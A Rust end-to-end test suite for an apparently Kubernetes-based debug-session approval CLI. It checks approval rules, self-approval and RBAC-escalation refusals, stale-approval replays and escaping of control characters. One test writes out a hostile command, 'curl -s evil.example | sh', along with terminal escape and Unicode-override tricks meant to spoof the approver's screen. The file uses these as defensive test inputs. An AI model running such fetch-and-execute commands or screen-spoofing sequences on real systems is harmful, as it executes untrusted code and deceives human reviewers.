//! `shellcar approve` and `shellcar reject`, the approvers' client commands, run as real
//! users (ServiceAccounts with kubeconfigs of their own) against sessions that a policy
//! holds in AwaitingApproval: what they print, when they refuse, and what the webhook
//! records from them. Also who may approve (a policy's `approval.approvers`; never a
//! ServiceAccount it does not name; never a namespace admin by default) and that a
//! decision holds only for the session its approver saw.
//!
//! They run the `shellcar` binary that `e2e/deploy` builds (`target/<profile>/shellcar`,
//! beside the test executable's `deps/`), with `KUBECONFIG` set to the user's kubeconfig,
//! `-n` given explicitly and stdin not a terminal. People who are not ServiceAccounts act
//! through `kubectl --as/--as-group` from the admin's kubeconfig. Every policy is made with
//! [`Fixture::policy`], which selects only the test's own namespace.

use std::time::Duration;

use anyhow::{Context as _, Result};
use k8s_openapi::api::apps::v1::Deployment;
use k8s_openapi::api::rbac::v1::{Role, RoleBinding};
use kube::api::{Api, Patch, PatchParams, PostParams};
use serde_json::{Value, json};
use shellcar::crd::{DebugPolicy, DebugSession, Phase, Profile, TargetKind};
use shellcar::naming::{self, APPROVE_ANNOTATION, REJECT_ANNOTATION};
use shellcar_e2e::attack;
use shellcar_e2e::cli::{self, Run};
use shellcar_e2e::identity::{User, rule_for, service_account_username};
use shellcar_e2e::kubectl;
use shellcar_e2e::policy::TestPolicy;
use shellcar_e2e::session::session;
use shellcar_e2e::wait::{Polled, poll};
use shellcar_e2e::workload::{NGINX_CONTAINER, nginx_deployment, pretty};
use shellcar_e2e::{Fixture, TIMEOUT};

/// The Deployment every test debugs.
const WEB: &str = "web";

/// The ttl of every session here: long enough never to run out during a test.
const TTL: &str = "30m";

/// Bound on one run of the CLI: it makes two or three API calls.
const CLI_TIMEOUT: Duration = Duration::from_secs(30);

/// The Secret env var of web's nginx container (test 1), and the Secret filling it.
const SECRET_ENV: &str = "DB_PASSWORD";
const SECRET_NAME: &str = "db-credentials";

/// Runs `shellcar <args>` as `user` (`KUBECONFIG` = the user's kubeconfig), stdin not a
/// terminal, killed after [`CLI_TIMEOUT`].
async fn shellcar(user: &User, args: &[&str]) -> Result<Run> {
    let env = [("KUBECONFIG", user.kubeconfig().into())];
    cli::run(&cli::shellcar_binary()?, args, &env, CLI_TIMEOUT).await
}

/// Session `name` on Deployment web with the default debugger, as JSON as a user writes
/// it.
fn request(name: &str) -> Result<Value> {
    let mut s = session(name, TargetKind::Deployment, WEB, TTL)?;
    s.spec.debugger.profile = Profile::General;
    Ok(serde_json::to_value(s)?)
}

/// The ClusterRole `config/rbac/approver_role.yaml` ships, as deployed (name prefix
/// `shellcar-`).
const APPROVER_ROLE: &str = "shellcar-approver";

/// A policy requiring approval (deadline 1h) for the test's namespace, by `approvers`
/// (`approval.approvers`, JSON), Ready.
async fn approval_policy(f: &Fixture, approvers: Value) -> Result<TestPolicy> {
    let policy = f
        .policy(
            "approval",
            json!({"approval": {"required": true, "deadline": "1h", "approvers": approvers}}),
        )
        .await?;
    policy.wait_ready("True").await?;
    Ok(policy)
}

/// `approval.approvers` naming the ServiceAccounts `names` of the test's namespace.
fn naming_accounts(f: &Fixture, names: &[&str]) -> Value {
    let users: Vec<String> = names
        .iter()
        .map(|name| service_account_username(f.ns(), name))
        .collect();
    json!({ "users": users })
}

/// Replaces the approvers of `policy` with `approvers`, as an administrator would, and
/// waits until the operator has judged the change.
async fn set_approvers(f: &Fixture, policy: &TestPolicy, approvers: Value) -> Result<()> {
    let patch = json!({"spec": {"approval": {"approvers": approvers}}});
    Api::<DebugPolicy>::all(f.cluster.client.clone())
        .patch(&policy.name, &PatchParams::default(), &Patch::Merge(&patch))
        .await
        .with_context(|| format!("setting the approvers of DebugPolicy {}", policy.name))?;
    policy.wait_ready("True").await?;
    Ok(())
}

/// The value of an approver's annotation for session `stored` (JSON as read) as seen:
/// its uid and generation, and `reason`.
fn seen(stored: &Value, reason: &str) -> String {
    json!({
        "uid": stored["metadata"]["uid"],
        "generation": stored["metadata"]["generation"],
        "reason": reason,
    })
    .to_string()
}

/// `kubectl annotate` of session `name` with `key=value` by the admin's kubeconfig with
/// `identity` (`--as`/`--as-group` flags, or none).
async fn annotate_as(
    f: &Fixture,
    identity: &[&str],
    name: &str,
    key: &str,
    value: &str,
) -> Result<kubectl::Output> {
    let pair = format!("{key}={value}");
    let mut args = identity.to_vec();
    args.extend(["annotate", "dbg", name, "-n", f.ns(), &pair]);
    kubectl::kubectl(None, &args, None).await
}

/// User `dev`, who may do everything with sessions (and, with `may_approve`, holds the
/// verb `approve` too), creates session `name`; waits until it awaits approval under
/// `policy`.
async fn requested(
    f: &Fixture,
    policy: &TestPolicy,
    name: &str,
    may_approve: bool,
) -> Result<User> {
    let dev = f.user("dev").await?;
    dev.grant(
        "dev-patch-web",
        vec![rule_for::<Deployment>(&["get", "patch"], &[WEB])],
    )
    .await?;
    if may_approve {
        dev.grant(
            "dev-approve",
            vec![rule_for::<DebugSession>(&["approve"], &[])],
        )
        .await?;
    }
    dev.sessions
        .create_raw(request(name)?)
        .await
        .with_context(|| format!("dev creating session {name}"))?;
    let s = f
        .sessions
        .wait_refused(name, Phase::AwaitingApproval, "AwaitingApproval")
        .await?;
    assert_eq!(
        s.status.as_ref().and_then(|st| st.policy.as_deref()),
        Some(policy.name.as_str()),
        "{:#?}",
        s.status
    );
    Ok(dev)
}

/// User `lead`, who may get and patch sessions and holds `verbs` (approve, reject).
async fn approver(f: &Fixture, verbs: &[&str]) -> Result<User> {
    approver_named(f, "lead", verbs).await
}

/// User `name`, who may get and patch sessions and holds `verbs` (approve, reject).
async fn approver_named(f: &Fixture, name: &str, verbs: &[&str]) -> Result<User> {
    let user = User::create(&f.cluster, f.ns(), name).await?;
    let mut all = vec!["get", "patch"];
    all.extend_from_slice(verbs);
    user.grant(
        &format!("{name}-decide"),
        vec![rule_for::<DebugSession>(&all, &[])],
    )
    .await?;
    Ok(user)
}

/// Asserts that session `name` still awaits approval, undecided and without the
/// annotations.
async fn assert_still_awaiting(f: &Fixture, name: &str, after: &str) -> Result<()> {
    let stored = f.sessions.get_json(name).await?;
    assert_eq!(
        stored["status"]["phase"],
        "AwaitingApproval",
        "after {after}: {}",
        pretty(&stored["status"])
    );
    assert!(
        stored["spec"]["approval"].is_null(),
        "after {after}, spec.approval: {}",
        pretty(&stored["spec"])
    );
    for key in [APPROVE_ANNOTATION, REJECT_ANNOTATION] {
        assert!(
            stored["metadata"]["annotations"][key].is_null(),
            "after {after}, annotation {key} is stored: {}",
            pretty(&stored["metadata"])
        );
    }
    Ok(())
}

/// `shellcar approve` by someone who may approve: without `--yes` and with stdin not a
/// terminal it refuses, telling to pass `--yes`, and changes nothing; with `--yes` it
/// prints the exposure report (the Secret env var by name, never its value), records the
/// approver in `spec.approval`, and the session starts.
#[tokio::test]
async fn approve_asks_for_yes_without_a_terminal_then_shows_the_exposure_and_starts_it()
-> Result<()> {
    let f = Fixture::new("cli-approve").await?;
    let secret_value = format!("pw-of-{}", f.ns());
    f.create_secret(SECRET_NAME, "password", &secret_value)
        .await?;
    let mut web = nginx_deployment(WEB, 1)?;
    web.spec
        .as_mut()
        .and_then(|s| s.template.spec.as_mut())
        .context("no pod spec")?
        .containers[0]
        .env = Some(vec![serde_json::from_value(json!({
        "name": SECRET_ENV,
        "valueFrom": {"secretKeyRef": {"name": SECRET_NAME, "key": "password"}},
    }))?]);
    f.workloads.create_deployment(&web).await?;
    let policy = approval_policy(&f, naming_accounts(&f, &["lead"])).await?;
    let lead = approver(&f, &["approve"]).await?;
    requested(&f, &policy, "incident", false).await?;

    let reason = "INC-7: lead read the exposure";
    let asked = shellcar(
        &lead,
        &["approve", "incident", "-n", f.ns(), "--reason", reason],
    )
    .await?;
    assert!(
        !asked.status.success(),
        "`{}` without --yes and without a terminal succeeded: {asked:#?}",
        asked.command
    );
    assert!(
        asked.stderr.contains("--yes") && asked.stderr.contains("not a terminal"),
        "without a terminal, the refusal must say to pass --yes: {asked:#?}"
    );
    assert_still_awaiting(&f, "incident", "approve without --yes").await?;

    let run = shellcar(
        &lead,
        &[
            "approve",
            "incident",
            "-n",
            f.ns(),
            "--reason",
            reason,
            "--yes",
        ],
    )
    .await?;
    assert!(
        run.status.success(),
        "`{}` by {}, who may approve, failed: {run:#?}",
        run.command,
        lead.username
    );
    assert!(
        run.stdout
            .contains(&format!("{SECRET_ENV} (Secret {SECRET_NAME})"))
            && run.stdout.contains(&format!("container {NGINX_CONTAINER}")),
        "the summary must list {NGINX_CONTAINER}'s env {SECRET_ENV} from Secret {SECRET_NAME}: \
         {run:#?}"
    );
    assert!(
        !run.stdout.contains(&secret_value) && !run.stderr.contains(&secret_value),
        "the Secret's value was printed: {run:#?}"
    );
    assert!(
        run.stdout
            .contains(&format!("approved by {}", lead.username)),
        "the CLI must report the approval by {}: {run:#?}",
        lead.username
    );

    f.sessions.wait_active("incident").await?;
    f.workloads
        .assert_debugged(WEB, &[&naming::container_name("incident")])
        .await?;
    let stored = f.sessions.get_json("incident").await?;
    let approval = &stored["spec"]["approval"];
    assert_eq!(
        approval["approver"].as_str(),
        Some(lead.username.as_str()),
        "spec.approval: {}",
        pretty(approval)
    );
    assert_eq!(approval["decision"], "Approved", "{}", pretty(approval));
    assert_eq!(
        approval["reason"].as_str(),
        Some(reason),
        "{}",
        pretty(approval)
    );
    Ok(())
}

/// `shellcar reject --yes` by someone who may reject: the session fails with
/// ApprovalRejected and nothing of it ever reaches the workload; `shellcar approve --yes`
/// afterwards exits non-zero saying it was already rejected, and changes nothing.
#[tokio::test]
async fn reject_fails_the_session_untouched_and_a_later_approve_is_refused() -> Result<()> {
    let (f, before) = Fixture::with_deployment("cli-reject", WEB, 1).await?;
    let policy = approval_policy(&f, naming_accounts(&f, &["lead"])).await?;
    let lead = approver(&f, &["approve", "reject"]).await?;
    requested(&f, &policy, "incident", false).await?;
    let untouched = f.workloads.snapshot().await?;

    let reason = "not during the sale";
    let run = shellcar(
        &lead,
        &["reject", "incident", "-n", f.ns(), "--reason", reason, "-y"],
    )
    .await?;
    assert!(
        run.status.success(),
        "`{}` by {}, who may reject, failed: {run:#?}",
        run.command,
        lead.username
    );
    assert!(
        run.stdout
            .contains(&format!("rejected by {}", lead.username)),
        "the CLI must report the rejection by {}: {run:#?}",
        lead.username
    );

    f.assert_failed("incident", "ApprovalRejected").await?;
    let stored = f.sessions.get_json("incident").await?;
    let approval = &stored["spec"]["approval"];
    assert_eq!(
        (approval["decision"].as_str(), approval["approver"].as_str()),
        (Some("Rejected"), Some(lead.username.as_str())),
        "spec.approval: {}",
        pretty(approval)
    );
    assert_eq!(
        f.workloads.template(WEB).await?,
        before,
        "a rejected session changed web's template"
    );
    assert_eq!(
        f.workloads.snapshot().await?,
        untouched,
        "a rejected session changed the namespace's workloads"
    );

    let again = shellcar(&lead, &["approve", "incident", "-n", f.ns(), "--yes"]).await?;
    attack::record(
        "approve a session already rejected",
        "refused: already rejected",
        attack::observed(again.status.success(), &again.stderr),
        !again.status.success() && again.stderr.contains("already rejected"),
    );
    assert!(
        !again.status.success(),
        "`{}` of a rejected session succeeded: {again:#?}",
        again.command
    );
    assert!(
        again.stderr.contains("already rejected"),
        "approving a rejected session must say it was already rejected: {again:#?}"
    );
    let after = f.sessions.get_json("incident").await?;
    assert_eq!(
        &after["spec"]["approval"], approval,
        "a refused approve changed spec.approval"
    );
    assert_eq!(
        after["status"]["phase"],
        "Failed",
        "{}",
        pretty(&after["status"])
    );
    assert_eq!(
        f.workloads.template(WEB).await?,
        before,
        "approving a rejected session changed web's template"
    );
    Ok(())
}

/// The requester, though they hold the verb `approve` and the policy names them, cannot
/// approve their own session through the CLI: it exits non-zero with the webhook's refusal
/// naming them, and the session still awaits approval.
#[tokio::test]
async fn the_requester_cannot_approve_their_own_session_with_the_cli() -> Result<()> {
    let (f, before) = Fixture::with_deployment("cli-self", WEB, 1).await?;
    let policy = approval_policy(&f, naming_accounts(&f, &["dev", "lead"])).await?;
    let dev = requested(&f, &policy, "incident", true).await?;

    let run = shellcar(
        &dev,
        &[
            "approve",
            "incident",
            "-n",
            f.ns(),
            "--reason",
            "mine",
            "--yes",
        ],
    )
    .await?;
    attack::record(
        "the requester approves their own session with shellcar approve (named approver, holds approve)",
        "refused by the webhook, naming the requester",
        attack::observed(run.status.success(), &run.stderr),
        !run.status.success()
            && run.stderr.contains(&dev.username)
            && run.stderr.contains("may not approve"),
    );
    assert!(
        !run.status.success(),
        "the requester {} approved their own session: {run:#?}",
        dev.username
    );
    assert!(
        run.stderr.contains(&dev.username) && run.stderr.contains("may not approve"),
        "the refusal must be the webhook's, naming {}: {run:#?}",
        dev.username
    );
    assert_still_awaiting(&f, "incident", "self-approval").await?;
    assert_eq!(
        f.workloads.template(WEB).await?,
        before,
        "a refused self-approval changed web's template"
    );
    Ok(())
}

/// Asserts that `run` (a decision by `user`) failed with the webhook's refusal containing
/// every one of `parts`, and that session `name` still awaits approval. Records the
/// outcome as `attack` in the security report.
async fn assert_refused(
    f: &Fixture,
    attack: &str,
    run: &Run,
    user: &str,
    parts: &[&str],
) -> Result<()> {
    attack::record(
        attack,
        "refused by the webhook; the session still awaits approval",
        attack::observed(run.status.success(), &run.stderr),
        !run.status.success() && parts.iter().all(|p| run.stderr.contains(p)),
    );
    assert!(
        !run.status.success(),
        "`{}` by {user} succeeded; it must be refused: {run:#?}",
        run.command
    );
    for part in parts {
        assert!(
            run.stderr.contains(part),
            "the refusal of {user} must say {part:?}: {run:#?}"
        );
    }
    assert_still_awaiting(f, "incident", &format!("the refusal of {user}")).await
}

/// Role `name` with `get`, `patch` and `approve` on sessions, bound to group `group`
/// (people, not ServiceAccounts); waits until the authorizer grants it to someone
/// impersonated as `probe` in that group.
async fn grant_group(f: &Fixture, name: &str, group: &str, probe: &str) -> Result<()> {
    let client = f.cluster.client.clone();
    let rules = vec![rule_for::<DebugSession>(&["get", "patch", "approve"], &[])];
    let role: Role = serde_json::from_value(json!({
        "metadata": {"name": name},
        "rules": rules,
    }))?;
    Api::<Role>::namespaced(client.clone(), f.ns())
        .create(&PostParams::default(), &role)
        .await
        .with_context(|| format!("creating Role {name}"))?;
    let binding: RoleBinding = serde_json::from_value(json!({
        "metadata": {"name": name},
        "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "Role", "name": name},
        "subjects": [{"apiGroup": "rbac.authorization.k8s.io", "kind": "Group", "name": group}],
    }))?;
    Api::<RoleBinding>::namespaced(client, f.ns())
        .create(&PostParams::default(), &binding)
        .await
        .with_context(|| format!("creating RoleBinding {name}"))?;
    let can_i = [
        "--as",
        probe,
        "--as-group",
        group,
        "auth",
        "can-i",
        "approve",
        "debugsessions.debug.shellcar.dev",
        "-n",
        f.ns(),
    ];
    poll(
        &format!("RBAC to grant group {group} approve"),
        TIMEOUT,
        || async {
            let out = kubectl::kubectl(None, &can_i, None).await?;
            Ok(if out.stdout.trim() == "yes" {
                Polled::Done(())
            } else {
                Polled::NotYet(format!("{}{}", out.stdout, out.stderr))
            })
        },
    )
    .await
}

/// Under a policy whose approvers are ServiceAccount lead and group e2e-oncall, nobody else
/// approves, though they hold the verb `approve`: not ServiceAccount other (through the
/// CLI), not alice (a person in group e2e-staff only). bob, in e2e-oncall, does; the
/// webhook records him.
#[tokio::test]
async fn an_approver_the_policy_does_not_name_is_refused() -> Result<()> {
    let (f, before) = Fixture::with_deployment("cli-unlisted", WEB, 1).await?;
    let policy = approval_policy(
        &f,
        json!({
            "users": [service_account_username(f.ns(), "lead")],
            "groups": ["e2e-oncall"],
        }),
    )
    .await?;
    let other = approver_named(&f, "other", &["approve"]).await?;
    grant_group(&f, "staff-approve", "e2e-staff", "alice").await?;
    requested(&f, &policy, "incident", false).await?;

    let run = shellcar(&other, &["approve", "incident", "-n", f.ns(), "--yes"]).await?;
    assert_refused(
        &f,
        "approval by a holder of approve whom the policy's approvers do not name",
        &run,
        &other.username,
        &[
            &other.username,
            "may not approve",
            "ServiceAccount",
            &policy.name,
        ],
    )
    .await?;

    let stored = f.sessions.get_json("incident").await?;
    let value = seen(&stored, "alice looked");
    let alice = ["--as", "alice", "--as-group", "e2e-staff"];
    let out = annotate_as(&f, &alice, "incident", APPROVE_ANNOTATION, &value).await?;
    attack::record(
        "approval by a user in a group the policy's approvers do not name (approve annotation)",
        "refused by the webhook, naming approval.approvers",
        attack::observed(out.status.success(), &out.stderr),
        !out.status.success()
            && out.stderr.contains(r#"user "alice" may not approve"#)
            && out.stderr.contains("approval.approvers"),
    );
    assert!(
        !out.status.success(),
        "alice, whom policy {} does not name, approved: {out:#?}",
        policy.name
    );
    for part in [r#"user "alice" may not approve"#, "approval.approvers"] {
        assert!(
            out.stderr.contains(part),
            "the refusal of alice must say {part:?}: {out:#?}"
        );
    }
    assert_still_awaiting(&f, "incident", "the refusal of alice").await?;
    assert_eq!(
        f.workloads.template(WEB).await?,
        before,
        "a refused approval changed web's template"
    );

    let value = seen(&stored, "bob looked");
    let bob = [
        "--as",
        "bob",
        "--as-group",
        "e2e-staff",
        "--as-group",
        "e2e-oncall",
    ];
    let out = annotate_as(&f, &bob, "incident", APPROVE_ANNOTATION, &value).await?;
    assert!(
        out.status.success(),
        "bob, in group e2e-oncall that policy {} names, could not approve: {out:#?}",
        policy.name
    );
    let approval = f.sessions.get_json("incident").await?["spec"]["approval"].clone();
    assert_eq!(
        (approval["approver"].as_str(), approval["decision"].as_str()),
        (Some("bob"), Some("Approved")),
        "spec.approval: {}",
        pretty(&approval)
    );
    f.sessions.wait_active("incident").await?;
    Ok(())
}

/// ServiceAccount bot, bound to the ClusterRole shellcar-approver, approves nothing while
/// the policy names no approvers, nor when it lists the ServiceAccounts' groups; once the
/// policy names bot in `users`, `shellcar approve` by bot starts the session.
#[tokio::test]
async fn a_service_account_holding_the_approver_role_is_refused_unless_named() -> Result<()> {
    let (f, _) = Fixture::with_deployment("cli-bot", WEB, 1).await?;
    let policy = f
        .policy(
            "approval",
            json!({"approval": {"required": true, "deadline": "1h"}}),
        )
        .await?;
    policy.wait_ready("True").await?;
    let bot = User::create(&f.cluster, f.ns(), "bot").await?;
    bot.bind_cluster_role(APPROVER_ROLE).await?;
    requested(&f, &policy, "incident", false).await?;
    let approve = [
        "approve",
        "incident",
        "-n",
        f.ns(),
        "--reason",
        "bot",
        "--yes",
    ];

    // No approvers: anyone with the verb but ServiceAccounts.
    let run = shellcar(&bot, &approve).await?;
    assert_refused(
        &f,
        "approval by a ServiceAccount bound to shellcar-approver, the policy naming no approvers",
        &run,
        &bot.username,
        &[&bot.username, "may not approve", "ServiceAccount"],
    )
    .await?;

    // Its groups do not count.
    let groups = json!({"groups": [
        "system:serviceaccounts",
        format!("system:serviceaccounts:{}", f.ns()),
        "system:authenticated",
    ]});
    set_approvers(&f, &policy, groups).await?;
    let run = shellcar(&bot, &approve).await?;
    assert_refused(
        &f,
        "approval by a ServiceAccount whose groups the policy's approvers name",
        &run,
        &bot.username,
        &[&bot.username, "may not approve", "ServiceAccount"],
    )
    .await?;

    // Named: it may.
    set_approvers(
        &f,
        &policy,
        json!({"users": [&bot.username], "groups": null}),
    )
    .await?;
    let run = shellcar(&bot, &approve).await?;
    assert!(
        run.status.success(),
        "`{}` by {}, whom the policy names, failed: {run:#?}",
        run.command,
        bot.username
    );
    let approval = f.sessions.get_json("incident").await?["spec"]["approval"].clone();
    assert_eq!(
        approval["approver"].as_str(),
        Some(bot.username.as_str()),
        "spec.approval: {}",
        pretty(&approval)
    );
    f.sessions.wait_active("incident").await?;
    Ok(())
}

/// A namespace admin (the built-in ClusterRole admin, bound in the namespace) holds no
/// `approve`, and cannot hand shellcar-approver to a ServiceAccount of theirs: RBAC refuses
/// to grant what the granter does not hold. (Were shellcar-approver aggregated into admin,
/// both would succeed, and the admin could approve their own sessions as that account.)
#[tokio::test]
async fn a_namespace_admin_holds_no_approve_and_cannot_grant_it() -> Result<()> {
    let f = Fixture::new("cli-nsadmin").await?;
    let admin = User::create(&f.cluster, f.ns(), "nsadmin").await?;
    let binding: RoleBinding = serde_json::from_value(json!({
        "metadata": {"name": "nsadmin-admin"},
        "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "admin"},
        "subjects": [{"kind": "ServiceAccount", "name": "nsadmin", "namespace": f.ns()}],
    }))?;
    Api::<RoleBinding>::namespaced(f.cluster.client.clone(), f.ns())
        .create(&PostParams::default(), &binding)
        .await
        .context("binding ClusterRole admin to nsadmin")?;
    poll("nsadmin to hold admin", TIMEOUT, || async {
        Ok(
            if admin
                .can("create", "rbac.authorization.k8s.io", "rolebindings", None)
                .await?
                && admin
                    .can("create", "debug.shellcar.dev", "debugsessions", None)
                    .await?
            {
                Polled::Done(())
            } else {
                Polled::NotYet("not yet".to_owned())
            },
        )
    })
    .await?;
    for verb in ["approve", "reject"] {
        assert!(
            !admin
                .can(verb, "debug.shellcar.dev", "debugsessions", None)
                .await?,
            "a namespace admin holds `{verb}` on debugsessions: is {APPROVER_ROLE} aggregated into admin?"
        );
    }
    let helper = User::create(&f.cluster, f.ns(), "helper").await?;
    let account = format!("{}:{}", f.ns(), helper.name);
    let out = admin
        .kubectl(
            &[
                "create",
                "rolebinding",
                "helper-approve",
                "-n",
                f.ns(),
                &format!("--clusterrole={APPROVER_ROLE}"),
                &format!("--serviceaccount={account}"),
            ],
            None,
        )
        .await?;
    attack::record(
        "a namespace admin binds shellcar-approver to a ServiceAccount of theirs",
        "refused by RBAC (no escalation: the admin holds no approve)",
        attack::observed(out.status.success(), &out.stderr),
        !out.status.success() && out.stderr.contains("forbidden") && out.stderr.contains("approve"),
    );
    assert!(
        !out.status.success(),
        "a namespace admin bound {APPROVER_ROLE} to their own ServiceAccount: {out:#?}"
    );
    assert!(
        out.stderr.contains("forbidden") && out.stderr.contains("approve"),
        "RBAC must refuse to grant `approve`: {out:#?}"
    );
    assert!(
        !helper
            .can("approve", "debug.shellcar.dev", "debugsessions", None)
            .await?,
        "{} holds approve",
        helper.username
    );
    Ok(())
}

/// An approval names the session its approver saw. lead reads session incident; dev
/// deletes it and creates another of the same name: lead's approval of what they saw is
/// refused. So is one for the new session after dev changed its ttl. `shellcar approve`,
/// which shows the session as it is, then approves it.
#[tokio::test]
async fn an_approval_for_a_session_deleted_and_created_again_is_refused() -> Result<()> {
    let (f, before) = Fixture::with_deployment("cli-stale", WEB, 1).await?;
    let policy = approval_policy(&f, naming_accounts(&f, &["lead"])).await?;
    let lead = approver(&f, &["approve"]).await?;
    let dev = requested(&f, &policy, "incident", false).await?;
    let first = lead.sessions.get_json("incident").await?;

    dev.sessions.delete_and_wait_gone("incident").await?;
    let mut again = request("incident")?;
    again["spec"]["debugger"]["command"] = json!(["sh", "-c"]);
    again["spec"]["debugger"]["args"] = json!(["echo replaced; sleep 1d"]);
    dev.sessions
        .create_raw(again)
        .await
        .context("dev creating session incident again")?;
    f.sessions
        .wait_refused("incident", Phase::AwaitingApproval, "AwaitingApproval")
        .await?;
    let second = f.sessions.get_json("incident").await?;
    assert_ne!(
        first["metadata"]["uid"], second["metadata"]["uid"],
        "the session created again kept its uid"
    );

    let lead_identity = [
        "--kubeconfig",
        lead.kubeconfig()
            .to_str()
            .context("the kubeconfig path is not UTF-8")?,
    ];
    let out = annotate_as(
        &f,
        &lead_identity,
        "incident",
        APPROVE_ANNOTATION,
        &seen(&first, "approved what I saw"),
    )
    .await?;
    attack::record(
        "an approval of a deleted session replayed on one created again under its name",
        "refused by the webhook: the session was created again",
        attack::observed(out.status.success(), &out.stderr),
        !out.status.success()
            && out.stderr.contains("no longer exists")
            && out.stderr.contains("created again"),
    );
    assert!(
        !out.status.success(),
        "an approval of the deleted session approved the one created again: {out:#?}"
    );
    assert!(
        out.stderr.contains("no longer exists") && out.stderr.contains("created again"),
        "the refusal must say the session was created again: {out:#?}"
    );
    assert_still_awaiting(&f, "incident", "an approval of the deleted session").await?;

    // Changed since: the ttl, which may change before approval.
    let changed = dev
        .kubectl(
            &[
                "patch",
                "dbg",
                "incident",
                "-n",
                f.ns(),
                "--type=merge",
                "-p",
                r#"{"spec":{"ttl":"20m"}}"#,
            ],
            None,
        )
        .await?;
    assert!(
        changed.status.success(),
        "dev changing the ttl: {changed:#?}"
    );
    let out = annotate_as(
        &f,
        &lead_identity,
        "incident",
        APPROVE_ANNOTATION,
        &seen(&second, "approved the 30m I saw"),
    )
    .await?;
    attack::record(
        "an approval of what the approver saw, after the requester changed the session",
        "refused by the webhook: the session changed after it was seen",
        attack::observed(out.status.success(), &out.stderr),
        !out.status.success() && out.stderr.contains("changed after it was seen"),
    );
    assert!(
        !out.status.success(),
        "an approval of generation {} approved the session changed since: {out:#?}",
        second["metadata"]["generation"]
    );
    assert!(
        out.stderr.contains("changed after it was seen"),
        "the refusal must say the session changed: {out:#?}"
    );
    assert_still_awaiting(&f, "incident", "an approval of the unchanged session").await?;
    assert_eq!(
        f.workloads.template(WEB).await?,
        before,
        "a refused approval changed web's template"
    );

    // Once the operator has judged the change, the session stays as shellcar approve reads
    // it (the resourceVersion it sends would refuse a status written in between).
    f.sessions
        .wait("incident", "status.observedGeneration 2", |s| {
            s.status.as_ref().and_then(|st| st.observed_generation) == Some(2)
        })
        .await?;
    let run = shellcar(&lead, &["approve", "incident", "-n", f.ns(), "--yes"]).await?;
    assert!(
        run.status.success(),
        "`{}` of the session as it is failed: {run:#?}",
        run.command
    );
    assert!(
        run.stdout.contains(r#""echo replaced; sleep 1d""#) && run.stdout.contains("20m"),
        "the CLI must show the session as it is now: {run:#?}"
    );
    f.sessions.wait_active("incident").await?;
    Ok(())
}

/// A requester who writes terminal control sequences into a session's command, args and
/// env cannot redraw the approver's screen: `shellcar approve` prints them escaped, and
/// nothing it prints holds a control character but the newline.
#[tokio::test]
async fn approve_escapes_control_characters_in_a_command() -> Result<()> {
    let (f, _) = Fixture::with_deployment("cli-escape", WEB, 1).await?;
    let policy = approval_policy(&f, naming_accounts(&f, &["lead"])).await?;
    let lead = approver(&f, &["approve"]).await?;
    let dev = f.user("dev").await?;
    dev.grant(
        "dev-patch-web",
        vec![rule_for::<Deployment>(&["get", "patch"], &[WEB])],
    )
    .await?;
    // Clear the screen, home the cursor, and draw a harmless command in green.
    let redraw = "\u{1b}[2J\u{1b}[H\u{1b}[32m";
    let mut hostile = request("incident")?;
    hostile["spec"]["debugger"]["command"] = json!([
        "sh",
        "-c",
        format!("curl -s evil.example | sh; {redraw}command    \"sleep\" \"1d\"\r"),
    ]);
    hostile["spec"]["debugger"]["args"] = json!(["\u{202e}txt.exe", "a\u{7}b"]);
    hostile["spec"]["debugger"]["env"] = json!([{"name": "NOTE", "value": "\u{1b}]0;title\u{7}"}]);
    dev.sessions
        .create_raw(hostile)
        .await
        .context("dev creating the session with control characters")?;
    let s = f
        .sessions
        .wait_refused("incident", Phase::AwaitingApproval, "AwaitingApproval")
        .await?;
    assert_eq!(
        s.status.as_ref().and_then(|st| st.policy.as_deref()),
        Some(policy.name.as_str())
    );

    // Without --yes and a terminal it shows the session, then refuses to go on.
    let run = shellcar(&lead, &["approve", "incident", "-n", f.ns()]).await?;
    assert!(
        !run.status.success(),
        "`{}` without --yes succeeded: {run:#?}",
        run.command
    );
    let raw: Vec<char> = run
        .stdout
        .chars()
        .chain(run.stderr.chars())
        .filter(|c| *c != '\n' && (c.is_control() || ('\u{200b}'..='\u{206f}').contains(c)))
        .collect();
    assert!(
        raw.is_empty(),
        "shellcar approve printed {raw:?} unescaped: {run:#?}"
    );
    for shown in [
        r#"  command    "sh" "-c" "curl -s evil.example | sh; \u{1b}[2J\u{1b}[H\u{1b}[32mcommand    \"sleep\" \"1d\"\r""#,
        r#"  args       "\u{202e}txt.exe" "a\u{7}b""#,
        r#"  env        NOTE = "\u{1b}]0;title\u{7}""#,
    ] {
        assert!(
            run.stdout.lines().any(|line| line == shown),
            "shellcar approve must print the line {shown:?}: {run:#?}"
        );
    }
    assert_still_awaiting(&f, "incident", "approve without --yes").await?;
    Ok(())
}
